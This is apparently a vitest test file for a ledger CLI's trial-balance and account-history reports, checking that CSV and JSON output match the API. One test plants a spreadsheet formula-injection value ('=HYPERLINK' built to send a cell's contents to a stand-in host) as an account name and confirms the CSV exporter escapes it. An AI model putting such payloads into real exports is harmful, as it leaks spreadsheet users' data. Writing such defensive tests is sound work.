// `ledger reports trial-balance` and `ledger accounts history` (issue 32): the reports the HTTP endpoints answer,
// straight on the database. The CSV is read back by a CSV parser and equals the API's report, but for a name a
// spreadsheet would evaluate, written as text (issue 41); json is the whole report as one object; the table ends with
// the totals.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { cli, fiat, makeAccount, onchain, post, useServerWithAccounts, type Client } from '../helpers/server.js';

describe('reports from the command line', () => {
  let c: Client;
  let cash: string;
  const run = (...args: string[]) => cli(['--db', t.dbPath, ...args, '--tenant', t.tenant.tenantId]);

  const t = useServerWithAccounts({
    accounts: { cash: { name: 'Cash, "main"', type: 'ASSET' }, equity: { name: 'Équité', type: 'EQUITY' }, sales: { name: 'Sales', type: 'REVENUE' }, fees: { name: 'Fees', type: 'EXPENSE' } },
  });
  beforeAll(async () => {
    c = t.client;
    cash = t.accounts.cash;
    const { equity, sales, fees } = t.accounts;
    for (const [account, amount] of [[equity, '1000.00'], [sales, '99.99']] as const) {
      expect((await post(c, [fiat(cash, 'DEBIT', amount), fiat(account, 'CREDIT', amount)])).status).toBe(201);
    }
    expect((await post(c, [fiat(fees, 'DEBIT', '0.01'), fiat(cash, 'CREDIT', '0.01'), onchain(cash, 'DEBIT', '7.5'), onchain(equity, 'CREDIT', '7.5')])).status).toBe(201);
  });

  it('trial-balance: csv and json equal the API at the same instant; the table ends with the totals; bad options exit 2', async () => {
    const api = await c.get('/api/v1/reports/trial-balance?limit=200');
    expect(api.status, api.text).toBe(200);
    const asOf = api.body.asOf as string;

    const csv = await run('reports', 'trial-balance', '--as-of', asOf, '--format', 'csv');
    expect(csv.code, csv.stderr).toBe(0);
    const rows = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    const items = rows.filter((r) => r.accountId !== '');
    const totals = rows.filter((r) => r.accountId === '');
    expect(items).toEqual(api.body.items.map((i: Record<string, unknown>) => ({ ...i, debit: String(i.debit), credit: String(i.credit) })));
    expect(totals).toEqual(api.body.totals.map((x: Record<string, unknown>) => ({ accountId: '', name: 'TOTAL', type: '', normalBalance: '', asset: x.asset, debit: String(x.debit), credit: String(x.credit) })));
    expect(rows.at(-1)!.name).toBe('TOTAL');

    const json = await run('reports', 'trial-balance', '--as-of', asOf, '--format', 'json');
    expect(json.code, json.stderr).toBe(0);
    expect({ ...JSON.parse(json.stdout), computedAt: null }).toEqual({ ...api.body, computedAt: null });

    const table = await run('reports', 'trial-balance');
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toContain('Trial balance');
    expect(table.stdout).toContain(api.body.auditHead.id);
    expect(table.stdout.trimEnd().split('\n').filter((l) => l.includes('TOTAL'))).toHaveLength(2);
    expect(table.stdout).toContain('1099.99');

    const badFormat = await run('reports', 'trial-balance', '--format', 'xlsx');
    expect(badFormat.code).toBe(2);
    expect(badFormat.stderr).toMatch(/--format/);
    expect((await run('reports', 'trial-balance', '--as-of', 'yesterday')).code).toBe(2);
  });

  it('trial-balance csv: an account named as a formula is written as text, a quote before it; the amounts stay numbers', async () => {
    const formula = '=HYPERLINK("http://x"&A2,"x")';
    const trap = await makeAccount(c, { name: formula, type: 'ASSET' });
    const suspense = await makeAccount(c, { name: '-Suspense', type: 'LIABILITY' });
    expect((await post(c, [fiat(trap, 'DEBIT', '5.25'), fiat(suspense, 'CREDIT', '5.25')])).status).toBe(201);
    const api = await c.get('/api/v1/reports/trial-balance?limit=200');
    const csv = await run('reports', 'trial-balance', '--as-of', api.body.asOf, '--format', 'csv');
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(`,"'=HYPERLINK(""http://x""&A2,""x"")",ASSET,DEBIT,USD,5.25,0\n`);
    const rows = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    const named = (id: string) => rows.find((r) => r.accountId === id);
    expect(named(trap)).toMatchObject({ name: `'${formula}`, debit: '5.25', credit: '0' });
    expect(named(suspense)).toMatchObject({ name: "'-Suspense", debit: '0', credit: '5.25' });
    // Every other cell as the API gives it.
    const items = rows.filter((r) => r.accountId !== '');
    expect(items.map((r) => ({ ...r, name: r.name!.replace(/^'(?=[=+\-@\t\r])/, '') }))).toEqual(
      api.body.items.map((i: Record<string, unknown>) => ({ ...i, debit: String(i.debit), credit: String(i.credit) })),
    );
  });

  it('accounts history: --json as the endpoint answers it; a table otherwise; more than 1,000 points exits 2', async () => {
    const from = new Date(Date.now() - 3 * 3_600_000).toISOString();
    const to = new Date(Date.now() + 3_600_000).toISOString();
    const api = await c.get(`/api/v1/accounts/${cash}/balance-history?from=${from}&to=${to}&interval=hour`);
    expect(api.status, api.text).toBe(200);
    const json = await run('accounts', 'history', cash, '--from', from, '--to', to, '--interval', 'hour', '--json');
    expect(json.code, json.stderr).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual(api.body);
    const table = await run('accounts', 'history', cash, '--from', from, '--to', to, '--interval', 'hour');
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toContain('USDC');
    expect(table.stdout).toContain('1099.98');
    const tooMany = await run('accounts', 'history', cash, '--from', '2020-01-01T00:00:00Z', '--to', '2030-01-01T00:00:00Z', '--interval', 'hour');
    expect(tooMany.code).toBe(2);
    expect(tooMany.stderr).toMatch(/points/);
  });
});
